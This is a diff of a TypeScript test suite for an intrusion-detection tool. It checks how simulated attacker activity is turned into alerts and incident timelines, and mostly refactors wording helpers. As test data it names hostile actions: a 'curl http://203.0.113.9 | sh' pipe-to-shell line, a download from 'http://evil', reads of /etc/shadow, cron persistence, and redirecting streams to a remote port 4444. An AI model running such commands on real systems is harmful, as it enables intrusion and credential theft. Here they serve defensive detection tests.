@@ -1,9 +1,11 @@
 import assert from 'node:assert/strict';
 import test from 'node:test';
+import { alertReason, incidentTitle, storyLines } from '@ringfence/incident-text';
 import { createTestHost, O, type TestHost, type TestProcess } from '@ringfence/testkit';
-import { alertId, incidentId } from '@ringfence/wire';
+import { alertId, type Incident, IPPROTO, incidentId, records } from '@ringfence/wire';
 import { createFeed, createTestDetector, detectOne, latest, RULES } from './support.ts';
 
+const { AF_INET } = records.AddressFamily;
 /** systemd → sshd → sshd (session) → bash: what the shell does belongs to its session. */
 function login(host: TestHost, listener: TestProcess): TestProcess {
   const session = host.spawn(listener, '/usr/sbin/sshd', ['sshd: root [priv]']);
@@ -19,7 +21,10 @@ function bootedHost(): { host: TestHost; sshd: TestProcess; cron: TestProcess } 
   return { host, sshd, cron };
 }
 
-test('an alert says what was matched, by whom, and under which ids', () => {
+const storyOf = (incident: Incident | undefined): string[] => (incident === undefined ? [] : storyLines(incident));
+const reasonsOf = (incident: Incident | undefined): string[] => (incident?.alerts ?? []).map(alertReason);
+
+test('an alert names the rule, the processes, and the ids of its events', () => {
   const { host, sshd } = bootedHost();
   host.container({ cgroup: 5n, id: 'c5', name: 'web-1', path: '/docker/c5' });
   const bash = login(host, sshd);
@@ -46,7 +51,7 @@ test('an alert says what was matched, by whom, and under which ids', () => {
   assert.equal(alert?.fields['file.path'], '/etc/shadow');
 });
 
-test('a sequence is one alert about the event that completed it, with the ids of all', () => {
+test('a sequence raises one alert about the event that completed it, with the ids of all events', () => {
   const { host, sshd } = bootedHost();
   const text = `
 - rule: Dropped and run
@@ -71,7 +76,7 @@ test('a sequence is one alert about the event that completed it, with the ids of
   assert.equal(incidents.length, 1);
 });
 
-test('two warnings of distinct tactics in one session are an incident that tells its story', () => {
+test('two warnings of distinct tactics in one session are an incident with its timeline', () => {
   const { host, sshd } = bootedHost();
   const bash = login(host, sshd);
   const curl = host.spawn(bash, '/usr/bin/curl', ['curl', '-o', '/tmp/x', 'http://evil']);
@@ -95,21 +100,19 @@ test('two warnings of distinct tactics in one session are an incident that tells
       ['persistence', ['T1053.003']],
     ],
   );
+  assert.deepEqual(reasonsOf(incident), ['opened this incident', 'same process as in "Download and execute"']);
   assert.deepEqual(
-    incident?.alerts.map(({ why }) => why),
-    ['opened this incident', 'same process as in "Download and execute"'],
-  );
-  assert.deepEqual(
-    incident?.story,
+    storyOf(incident),
     [
       '01:00:00 root ran /tmp/x (pid 105), which /usr/bin/curl (pid 104) had written 3 ms before: Download and execute (command and control, T1105)',
       '01:00:00 /tmp/x (pid 105) opened /etc/cron.d/job for writing: Cron changed (persistence, T1053.003)',
     ].map((line) => line.replace('pid 105', `pid ${x.tgid}`).replace('pid 104', `pid ${curl.tgid}`)),
   );
-  assert.equal(incident?.title, 'Download and execute and persistence by /tmp/x');
+  assert.equal(incident && incidentTitle(incident), 'Download and execute and persistence by /tmp/x');
+  assert.deepEqual([incident?.title, incident?.story, incident?.alerts[0]?.why], ['', [], '']);
 });
 
-test('what one deed means is told in one line of the story', () => {
+test('the alerts about one action share one line of the timeline', () => {
   const { host, sshd } = bootedHost();
   const text = `${RULES}
 - rule: Hidden
@@ -121,14 +124,14 @@ test('what one deed means is told in one line of the story', () => {
   host.spawn(login(host, sshd), '/tmp/.x');
   const { incidents } = detectOne(createTestDetector({}, text), createFeed(host).next());
   assert.equal(incidents[0]?.alerts.length, 2);
-  assert.equal(incidents[0]?.story.length, 1);
+  assert.equal(storyOf(incidents[0]).length, 1);
   assert.match(
-    incidents[0]?.story[0] ?? '',
+    storyOf(incidents[0])[0] ?? '',
     /: Download and execute \(command and control, T1105\); Hidden \(stealth, T1564\.001\)$/,
   );
 });
 
-test('what failed is told as an attempt', () => {
+test('a failed action is shown as an attempt', () => {
   const { host, sshd } = bootedHost();
   const rules = ['exec_failed', 'fork_failed', 'credentials_failed'].map(
     (action) => `
@@ -144,14 +147,14 @@ test('what failed is told as an attempt', () => {
   host.event(x, 'Attempt', { operation: 1, call: 3, result: -11, count: 1 });
   host.event(x, 'Attempt', { operation: 3, call: 8, result: -1, count: 1 });
   const { incidents } = detectOne(createTestDetector({}, RULES + rules.join('')), createFeed(host).next());
-  const story = latest(incidents)[0]?.story ?? [];
+  const story = storyOf(latest(incidents)[0]);
   assert.deepEqual(
     story.map((line) => /pid \d+\) (.*): Failed/.exec(line)?.[1]),
     ['tried to run /tmp/y\\x1b', 'tried to start a process', 'tried to change its privileges'],
   );
 });
 
-test('whatever a process does is told in words, its names escaped', () => {
+test('every action has a sentence, in which names are escaped', () => {
   const { host, sshd } = bootedHost();
   const actions = ['mount', 'ptrace', 'signal', 'sysctl', 'shell_line', 'listen', 'accept'];
   const rules = actions.map(
@@ -180,7 +183,7 @@ test('whatever a process does is told in words, its names escaped', () => {
   host.socket(x, socket);
   host.accept(x, { address: '203.0.113.9', port: 4000 }, { address: '10.0.0.1', port: 80 });
   const { incidents } = detectOne(createTestDetector({}, RULES + rules.join('')), createFeed(host).next());
-  const story = latest(incidents)[0]?.story ?? [];
+  const story = storyOf(latest(incidents)[0]);
   assert.deepEqual(
     story.map((line) => /\(pid \d+\) (.*): Did/.exec(line)?.[1]?.replace(String(victim.tgid), 'PID')),
     [
@@ -189,14 +192,14 @@ test('whatever a process does is told in words, its names escaped', () => {
       'tried to ptrace PTRACE_ATTACH to process PID',
       'sent SIGKILL to process PID',
       'set kernel.core_pattern to "|/tmp/x"',
-      'was told "curl http://203.0.113.9 | sh"',
+      'was given the line "curl http://203.0.113.9 | sh"',
       'did listen (AF_INET) on port 80',
       'accepted a connection from 203.0.113.9 port 4000',
     ],
   );
 });
 
-test('a stream that became a connection is told with whom it is tied to', () => {
+test('a redirected stream is shown with the peer of its connection', () => {
   const { host, sshd } = bootedHost();
   const rules = [0, 1, 2].map(
     (stream) => `
@@ -208,18 +211,18 @@ test('a stream that became a connection is told with whom it is tied to', () => 
 `,
   );
   const x = host.spawn(login(host, sshd), '/opt/x');
-  const ends = { family: 2, protocol: 6, address: Buffer.from([203, 0, 113, 9]), port: 4444, count: 1 };
+  const ends = { family: AF_INET, protocol: IPPROTO.TCP, address: Buffer.from([203, 0, 113, 9]), port: 4444, count: 1 };
   host.event(x, 'Redirect', { ...ends, targetDescriptor: 0, call: 2 });
   host.event(x, 'Redirect', { ...ends, targetDescriptor: 1, call: 3, result: -22 });
   host.event(x, 'Redirect', { ...ends, address: Buffer.alloc(4), port: 0, targetDescriptor: 2, call: 2, result: 2 });
   const { incidents } = detectOne(createTestDetector({}, RULES + rules.join('')), createFeed(host).next());
-  const story = latest(incidents)[0]?.story ?? [];
+  const story = storyOf(latest(incidents)[0]);
   assert.deepEqual(
     story.map((line) => /pid \d+\) (.*): Tied/.exec(line)?.[1]),
     [
-      'tied its input to the connection with 203.0.113.9 port 4444',
-      'tried to tie its output to the connection with 203.0.113.9 port 4444',
-      'tied its errors to a socket',
+      'redirected its input to the connection with 203.0.113.9 port 4444',
+      'tried to redirect its output to the connection with 203.0.113.9 port 4444',
+      'redirected its errors to a socket',
     ],
   );
 });
@@ -271,7 +274,7 @@ test('jobs of cron and containers of one runtime stay apart, and one container i
     [2, 2],
   );
   assert.match(
-    entries[0]?.alerts[1]?.why ?? '',
+    reasonsOf(entries[0])[1] ?? '',
     /^started by \/bin\/sh \(pid \d+\), which also started \/usr\/bin\/cat \(pid \d+\), where "Shadow read" was raised$/,
   );
 });
@@ -287,7 +290,7 @@ test('a shell started by hand in a container does not join what the host shell d
   assert.equal(detectOne(createTestDetector(), createFeed(host).next()).incidents.length, 0);
 });
 
-test('a process named like a hub is none: neither from another directory nor started by a shell', () => {
+test('a process named like a hub is no hub from another directory, or if a shell started it', () => {
   const { host, sshd } = bootedHost();
   const bash = login(host, sshd);
   const fakes = [host.spawn(bash, '/tmp/systemd'), host.spawn(bash, '/usr/sbin/sshd')];
@@ -298,7 +301,7 @@ test('a process named like a hub is none: neither from another directory nor sta
   assert.equal(latest(incidents)[0]?.alerts.length, 4);
 });
 
-test('what a written file does later, started by cron, joins the session that wrote it', () => {
+test('an executable that cron starts later is linked to the session that wrote it', () => {
   const { host, sshd, cron } = bootedHost();
   const bash = login(host, sshd);
   host.open(bash, '/etc/cron.d/job', O.WRONLY);
@@ -308,12 +311,12 @@ test('what a written file does later, started by cron, joins the session that wr
   const { incidents } = detectOne(createTestDetector(), createFeed(host).next());
   assert.equal(incidents.length, 1);
   assert.equal(
-    incidents[0]?.alerts[1]?.why,
+    reasonsOf(incidents[0])[1],
     `/bin/bash (pid ${bash.tgid}) wrote /tmp/job, which /usr/sbin/cron (pid ${job.parent?.tgid}) executed 60 s later`,
   );
 });
 
-test('an alert that ties two chains merges them: the first opened survives and the other says where it went', () => {
+test('an alert that links two chains merges them: the chain that opened first survives, the other names it', () => {
   const { host, sshd } = bootedHost();
   const [one, two] = [login(host, sshd), login(host, sshd)];
   const feed = createFeed(host);
@@ -336,7 +339,7 @@ test('an alert that ties two chains merges them: the first opened survives and t
   );
   assert.equal(after[1]?.alerts.length, 5);
   assert.deepEqual(
-    after[1]?.alerts.map(({ why }) => why).filter((why) => why.startsWith('opened')),
+    reasonsOf(after[1]).filter((reason) => reason.startsWith('opened')),
     [
       'opened this incident',
       `opened ${before[1]?.id}, which turned out to be part of this incident: "Download and execute": /bin/bash (pid ${two.tgid}) wrote /tmp/tool, which /bin/bash (pid ${one.tgid}) executed 2 ms later`,
@@ -344,7 +347,7 @@ test('an alert that ties two chains merges them: the first opened survives and t
   );
 });
 
-test('the same rule about the same process folds: counted, not listed again, and sent only so often', () => {
+test('repetitions of a rule about a process are counted, not listed, and sent only up to a limit', () => {
   const { host, sshd } = bootedHost();
   const bash = login(host, sshd);
   const feed = createFeed(host);
@@ -357,15 +360,15 @@ test('the same rule about the same process folds: counted, not listed again, and
     [first.incidents.length, first.incidents[0]?.alerts.length, first.incidents[0]?.omittedAlerts],
     [1, 2, 999],
   );
-  assert.match(first.incidents[0]?.story[1] ?? '', /; 999 more like it until 01:00:01$/);
+  assert.match(storyOf(first.incidents[0])[1] ?? '', /; 999 more like it until 01:00:01$/);
   host.open(bash, '/etc/shadow');
-  assert.equal(detectOne(detector, feed.next()).incidents.length, 0, 'a repetition alone is no news');
+  assert.equal(detectOne(detector, feed.next()).incidents.length, 0, 'a repetition alone publishes nothing');
   for (let i = 0; i < 10; i++) host.tick();
   assert.equal(detectOne(detector, feed.next()).incidents[0]?.omittedAlerts, 1000);
   assert.equal(detector.stats().suppressed, 996);
 });
 
-test('an idle chain closes on ticks; what comes later opens another', () => {
+test('an idle chain closes on a tick, and later alerts open another one', () => {
   const { host, sshd } = bootedHost();
   const bash = login(host, sshd);
   const feed = createFeed(host);
@@ -382,7 +385,7 @@ test('an idle chain closes on ticks; what comes later opens another', () => {
   assert.deepEqual([stats.chains, stats.opened, stats.incidents], [1, 2, 3]);
 });
 
-test('more chains than there is room for: the one idle for longest is closed and counted', () => {
+test('when there is no room for a chain, the one that was idle for longest is closed and counted', () => {
   const { host, sshd } = bootedHost();
   const detector = createTestDetector({ maxChains: 3 });
   for (let i = 0; i < 5; i++) host.credentials(login(host, sshd), 0);
@@ -405,13 +408,14 @@ test('an incident of thousands of alerts with the longest texts stays under 900 
   assert.ok(outputs.every(({ value }) => (value?.length ?? 0) < 900_000));
 });
 
-test('terminal escapes in names reach neither story nor title nor output', () => {
+test('terminal escapes in names reach neither the title nor the timeline, the reasons or the output', () => {
   const { host, sshd } = bootedHost();
   const bash = login(host, sshd);
   host.spawn(bash, '/tmp/\u001b[2J\nx\u202e', ['\u001b]0;owned\u0007']);
   host.credentials(bash, 0);
   const { alerts, incidents } = detectOne(createTestDetector(), createFeed(host).next());
-  const texts = JSON.stringify([alerts, incidents.map(({ container: _, ...rest }) => rest)], (_, value) =>
+  const rendered = incidents.map((incident) => [incidentTitle(incident), storyOf(incident), reasonsOf(incident)]);
+  const texts = JSON.stringify([alerts, rendered, incidents.map(({ container: _, ...rest }) => rest)], (_, value) =>
     typeof value === 'bigint' ? String(value) : value,
   );
   // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
